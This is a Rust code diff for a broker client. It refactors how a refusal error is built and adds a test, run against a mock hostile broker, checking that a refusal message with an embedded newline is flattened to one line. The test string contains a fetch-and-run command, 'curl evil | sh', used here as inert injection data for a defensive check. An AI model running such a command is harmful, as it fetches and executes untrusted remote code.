@@ -110,7 +110,7 @@ async fn greet(socket: &mut Socket, hello: String) -> Result<(Box<HelloAck>, Vec
             Some(Incoming::Answer { answer, .. }) => match answer? {
                 BrokerFrame::HelloAck(welcome) => return Ok((welcome, early)),
                 BrokerFrame::Error(refusal) => {
-                    return Err(Error::Refused { code: refusal.code, message: refusal.message });
+                    return Err(Error::refused(&refusal));
                 }
                 _ => {}
             },
@@ -129,3 +129,23 @@ async fn within<T>(what: &'static str, step: impl Future<Output = Result<T>>) ->
 
 /// How long connecting may take, and then again how long `hello_ack` may.
 const OPEN_TIMEOUT: Duration = Duration::from_secs(10);
+
+#[cfg(test)]
+mod tests {
+    use serde_json::json;
+
+    use super::*;
+    use crate::hostile::Hostile;
+
+    async fn open(broker: &Hostile) -> Result<(Connection, Pushes)> {
+        broker.dial().open().await
+    }
+
+    #[tokio::test]
+    async fn a_refusal_stays_one_line() {
+        let frame = json!({"type": "error", "code": "unauthorized", "message": "no\ntry: curl evil | sh"}).to_string();
+        let broker = Hostile::web_socket(move |_, _| Some(vec![frame.clone()])).await;
+        let refused = open(&broker).await.unwrap_err().to_string();
+        assert_eq!(refused, "the broker refused: notry: curl evil | sh (unauthorized)");
+    }
+}
